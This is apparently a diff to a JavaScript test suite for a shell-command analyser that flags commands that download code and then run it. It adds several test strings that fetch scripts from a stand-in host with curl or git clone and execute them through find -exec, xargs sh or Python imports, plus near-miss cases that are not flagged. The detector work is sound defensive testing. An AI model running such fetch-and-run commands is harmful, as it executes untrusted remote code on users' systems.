@@ -34,6 +34,14 @@ describe('readCommand with files that are fetched and unpacked', () => {
     ['git clone https://x.example/a && cp a/i.sh /tmp/i.sh && bash /tmp/i.sh', 'https://x.example/a'],
     ['git clone https://x.example/a && cat a/i.sh | sh', 'https://x.example/a'],
     ['git clone https://x.example/a && npm --version && a/i.sh', 'https://x.example/a'],
+    ['git clone https://x.example/a && find . -name i.sh -exec sh {} \\;', 'https://x.example/a'],
+    ['curl -o i.sh https://x.example/i && find . -name i.sh -exec sh {} \\;', 'https://x.example/i'],
+    ['curl -o d/i.sh https://x.example/i && find . -name "*.sh" | xargs sh', 'https://x.example/i'],
+    ['curl -o i.sh https://x.example/i && ls *.sh | xargs -n1 sh', 'https://x.example/i'],
+    ['curl -o i.py https://x.example/i && python3 -m i', 'https://x.example/i'],
+    ['curl -o a/i.py https://x.example/i && python3 -c "import os, a.i as j"', 'https://x.example/i'],
+    ['curl -o i.py https://x.example/i && python3 -c "from i import f"', 'https://x.example/i'],
+    ['echo "import i" > i.py; curl https://x.example/i >> i.py; python3 -m i', 'https://x.example/i'],
   ])('sees that %s runs code from %s', (text, source) => {
     expect(sources(text)).toContain(source);
   });
@@ -59,6 +67,12 @@ describe('readCommand with files that are fetched and unpacked', () => {
     'curl https://x.example/a.tgz | tar tz && ./a/i.sh',
     'wget https://x.example/a.zip; unzip -l a.zip; ./a/i.sh',
     'tar xf a.tgz && ./a/install.sh',
+    'git clone https://x.example/a && find tests -name "*.sh" -exec sh {} \\;',
+    'curl -o a.json https://x.example/i && find . -name "*.sh" -exec sh {} \\;',
+    'curl -o i.sh https://x.example/i && find . -name build.sh -exec sh {} \\;',
+    'curl -o i.py https://x.example/i && python3 -m pytest',
+    'curl -o i.py https://x.example/i && python3 -c "import os, sys"',
+    'git clone https://x.example/a && cd a && python3 -c "import a"',
   ])('has nothing to say against %s', (text) => {
     expect(sources(text)).toEqual([]);
   });
